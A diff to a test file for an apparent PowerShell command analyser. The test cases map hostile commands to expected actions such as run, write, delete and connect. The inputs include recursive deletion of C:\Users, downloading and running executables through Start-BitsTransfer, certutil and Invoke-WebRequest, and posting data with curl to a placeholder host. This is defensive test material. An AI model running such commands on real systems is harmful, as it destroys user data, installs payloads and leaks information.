@@ -70,7 +70,7 @@ checkCases("powershell", [
     "Get-ChildItem C:\\Users -Recurse | Remove-Item -Force -Recurse",
     "run#1: Get-ChildItem|C:\\Users|-Recurse",
     "run#1: Remove-Item|-Force|-Recurse",
-    "delete* C:\\Users\\?",
+    "delete* C:\\\\Users\\\\**/*",
   ],
   [
     "gci /etc -Filter *.conf | % { Remove-Item $_.FullName }",
@@ -226,6 +226,7 @@ checkCases("powershell", [
     "Start-BitsTransfer -Source http://x/a.exe -Destination C:\\a.exe; certutil -urlcache -f http://x y",
     "run: Start-BitsTransfer|-Source|http://x/a.exe|-Destination|C:\\a.exe",
     "write C:\\a.exe",
+    "put C:\\a.exe << ?",
     "connect http://x/a.exe",
     "run: certutil|-urlcache|-f|http://x|y",
   ],
@@ -266,6 +267,9 @@ checkCases("powershell", [
     "run: whoami",
     "run: Invoke-WebRequest|-Uri|https://x/?|-OutFile|/home/u/AppData/Local/Temp\\a.exe",
     "write /home/u/AppData/Local/Temp\\a.exe",
+    "put /home/u/AppData/Local/Temp\\a.exe << ?",
+    "run#1000000: cat",
+    "run#1000000: curl|-d|@-|https://x/?",
     "connect! https://x/?",
     "run: Start-Process|/home/u/AppData/Local/Temp\\a.exe",
     "run: /home/u/AppData/Local/Temp\\a.exe",
@@ -285,8 +289,8 @@ checkCases("powershell", [
   [
     "$files = Get-ChildItem C:\\logs; foreach ($f in $files) { Remove-Item $f.FullName -Force }",
     "run: Get-ChildItem|C:\\logs",
-    "run: Remove-Item|C:\\logs\\?|-Force",
-    "delete C:\\logs\\?",
+    "run: Remove-Item|C:\\\\logs\\\\*|-Force",
+    "delete C:\\\\logs\\\\*",
   ],
   [
     "git status; npm install; docker ps --format '{{.Names}}'",
